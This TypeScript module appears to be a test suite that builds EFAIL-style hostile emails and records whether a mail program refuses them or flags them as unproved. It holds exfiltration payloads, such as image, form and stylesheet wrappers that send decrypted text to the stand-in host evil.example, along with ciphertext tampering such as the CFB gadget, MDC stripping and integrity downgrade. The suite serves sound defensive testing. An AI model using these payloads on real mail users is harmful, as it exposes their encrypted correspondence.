/** EFAIL and its kin: what makes a mail program give away, or show, what it could not authenticate. */
import { readFileSync } from 'node:fs'
import path from 'node:path'
import { type Bench, textForm } from './bench.ts'
import type { HostileMail, Surrounded } from './cases.ts'
import { crlf, encryptedMail, entityOf, html, mail, multipart, octets, plain, versionPart } from './mime.ts'
import { armored, changed, dearmored, join, literal, split } from './packets.ts'

const protectedData = 18
const unprotectedData = 9

/** Kenya's message with its encrypted data changed; PGP/MIME or armored text. */
async function withData(
  { sealed, record, sender, marker }: Bench,
  change: (body: Uint8Array) => { tag: number; body: Uint8Array },
): Promise<string> {
  const message = dearmored(await sealed(textForm(record({ subject: marker })), sender))
  return armored(changed(message, protectedData, change))
}

const kept = (body: Uint8Array) => ({ tag: protectedData, body })

/** Pages that would send what is decrypted between their parts to whoever wrote them. */
export const surroundedByPages: readonly Surrounded[] = [
  {
    name: 'an image around the encrypted part',
    attack: 'exfiltration',
    tries: 'Opens the address of an image before the encrypted part and closes it after (EFAIL, direct).',
    make: ({ eml }, marker) =>
      mail(multipart('mixed', html(`${marker}<img src="http://evil.example/`), entityOf(eml), html('">'))),
  },
  {
    name: 'an image around pasted armor in parts',
    attack: 'exfiltration',
    tries: 'Does the same with armor as a text part.',
    make: ({ asc }, marker) =>
      mail(multipart('mixed', html(`${marker}<img src='http://evil.example/`), octets(asc), html("'>"))),
  },
  {
    name: 'a form around the encrypted part',
    attack: 'exfiltration',
    tries: 'Has what was decrypted sent as a field of a form.',
    make: ({ asc }, marker) =>
      mail(
        multipart(
          'related',
          html(`<form action="http://evil.example"><textarea>${marker}`),
          octets(asc),
          html('</form>'),
        ),
      ),
  },
  {
    name: 'a style sheet that asks',
    attack: 'exfiltration',
    tries: 'Loads a style sheet from outside beside the encrypted part.',
    make: ({ asc }, marker) =>
      mail(
        multipart('mixed', html(`<link rel=stylesheet href="http://evil.example/${marker}">`), octets(asc)),
      ),
  },
]

export const exfiltration: readonly HostileMail[] = [
  {
    name: 'armor inside of an attribute',
    attack: 'exfiltration',
    shows: 'nothing',
    reasons: ['signature-missing', 'record-missing'],
    tries: 'Has the armor decrypted where it stands in the address of an image.',
    make: async ({ sealed, marker }) =>
      mail(html(`<img src="http://evil.example/\n${await sealed(marker, null)}\n">`)),
  },
  {
    name: 'a page in the encrypted part',
    attack: 'exfiltration',
    shows: 'as not proved',
    reasons: ['signature-missing', 'record-missing'],
    tries: 'Encrypts a page to the desk that loads an image with what it can read.',
    make: async ({ sealed, marker }) =>
      encryptedMail(
        await sealed(html(`<img src="http://evil.example/x"><script>x()</script>${marker}`), null),
      ),
  },
  {
    name: 'a part that lies elsewhere',
    attack: 'exfiltration',
    shows: 'as not proved',
    reasons: ['signature-missing', 'record-missing'],
    tries: 'Refers to a body that a reader should fetch (message/external-body).',
    make: ({ marker }) =>
      mail(
        multipart(
          'mixed',
          plain(marker),
          crlf(
            'Content-Type: message/external-body; access-type=URL; URL="http://evil.example/x"',
            '',
            'Content-Type: text/plain',
            '',
            '',
          ),
        ),
      ),
  },
]

const attack = 'ciphertext changed'

export const ciphertexts: readonly HostileMail[] = [
  {
    name: 'a gadget in the ciphertext',
    attack,
    shows: 'nothing',
    refused: 'message-unreadable',
    tries:
      'Repeats and changes blocks of the ciphertext, so that known words become a page (EFAIL, CFB gadget).',
    make: (bench) =>
      withData(bench, (body) => {
        const [head, blocks] = [body.subarray(0, 1 + 18), body.subarray(19)]
        return kept(
          Buffer.concat([
            head,
            blocks.subarray(0, 32),
            blocks.map((octet, at) => (at < 16 ? octet ^ 0x41 : octet)),
          ]),
        )
      }),
  },
  {
    name: 'one octet in the middle',
    attack,
    shows: 'nothing',
    refused: 'message-unreadable',
    tries: 'Changes a letter of the text and leaves the rest.',
    make: (bench) => withData(bench, (body) => kept(body.with(200, (body[200] ?? 0) ^ 1))),
  },
  {
    name: 'another authentication code',
    attack,
    shows: 'nothing',
    refused: 'message-unreadable',
    tries: 'Changes the last octet, which is of the code.',
    make: (bench) => withData(bench, (body) => kept(body.with(-1, (body.at(-1) ?? 0) ^ 1))),
  },
  {
    name: 'no authentication code',
    attack,
    shows: 'nothing',
    refused: 'message-unreadable',
    tries: 'Cuts the code off (EFAIL, stripped MDC).',
    make: (bench) => withData(bench, (body) => kept(body.slice(0, -22))),
  },
  {
    name: 'a version that does not exist',
    attack,
    shows: 'nothing',
    refused: 'message-unreadable',
    tries: 'Says that the data is protected in a way that nobody knows.',
    make: (bench) => withData(bench, (body) => kept(body.with(0, 9))),
  },
  {
    name: 'data that says it is AEAD',
    attack,
    shows: 'nothing',
    refused: 'message-unreadable',
    tries: 'Turns the data into that of version 2 with an unknown mode.',
    make: (bench) =>
      withData(bench, (body) =>
        kept(Buffer.concat([Uint8Array.of(2, 9, 99, 6), Buffer.alloc(32), body.subarray(1)])),
      ),
  },
  {
    name: 'another session key before it',
    attack,
    shows: 'nothing',
    refused: 'message-unreadable',
    tries: 'Replaces the session key for the desk by one of another message.',
    make: async ({ sealed, sender, marker }) => {
      const [one, two] = [
        dearmored(await sealed('Good morning', sender)),
        dearmored(await sealed(marker, sender)),
      ]
      const data = split(two).filter(({ tag }) => tag === protectedData)
      return armored(join(...split(one).filter(({ tag }) => tag === 1), ...data))
    },
  },
  {
    name: 'two encrypted contents',
    attack: 'several messages in one',
    shows: 'nothing',
    refused: 'message-unreadable',
    tries: 'Puts two messages one after the other in one block.',
    make: async ({ sealed, sender, marker }) =>
      armored(
        Buffer.concat([
          dearmored(await sealed('Good morning', sender)),
          dearmored(await sealed(marker, null)),
        ]),
      ),
  },
  {
    name: 'clear text after the encrypted data',
    attack: 'several messages in one',
    shows: 'nothing',
    refused: 'message-unreadable',
    tries: 'Appends a packet in clear, so that it is shown as if it had been encrypted.',
    make: async ({ sealed, sender, marker }) =>
      armored(Buffer.concat([dearmored(await sealed('Good morning', sender)), join(literal(marker))])),
  },
  {
    name: 'encrypted data under a signature',
    attack: 'several messages in one',
    shows: 'as not proved',
    reasons: ['signature-missing', 'record-missing'],
    tries: 'Puts encrypted data between the announcement and the signature of another content.',
    make: async ({ signedPackets, sealed, sender, marker }) => {
      const [announced, , signature] = split(await signedPackets('Good morning', sender))
      const data = split(dearmored(await sealed(marker, null)))
      return join(
        ...(announced === undefined ? [] : [announced]),
        ...data,
        ...(signature === undefined ? [] : [signature]),
      )
    },
  },
  {
    name: 'data without protection in place of protected data',
    attack: 'no integrity',
    shows: 'nothing',
    refused: 'encryption-not-authenticated',
    tries: 'Turns the protected data into the old kind, which has no code (EFAIL, downgrade).',
    make: (bench) => withData(bench, (body) => ({ tag: unprotectedData, body: body.slice(1) })),
  },
  {
    name: 'the same within PGP/MIME',
    attack: 'no integrity',
    shows: 'nothing',
    refused: 'encryption-not-authenticated',
    tries: 'Does the same where a mail program decrypts by itself.',
    make: async (bench) =>
      encryptedMail(await withData(bench, (body) => ({ tag: unprotectedData, body: body.slice(1) }))),
  },
  {
    name: 'an old program\u2019s message without protection',
    attack: 'no integrity',
    shows: 'nothing',
    refused: 'encryption-not-authenticated',
    tries: 'Sends what was really made without integrity protection.',
    make: () =>
      readFileSync(path.join(import.meta.dirname, '../../fixtures/openpgp/no-integrity.asc'), 'utf8'),
  },
  {
    name: 'a message in clear that says it is encrypted',
    attack: 'no integrity',
    shows: 'as not proved',
    reasons: ['signature-missing', 'record-missing'],
    tries: 'Puts an unencrypted literal packet where an encrypted message belongs.',
    make: ({ marker }) =>
      mail(
        multipart(
          'encrypted; protocol="application/pgp-encrypted"',
          versionPart,
          octets(armored(join(literal(marker)))),
        ),
      ),
  },
]
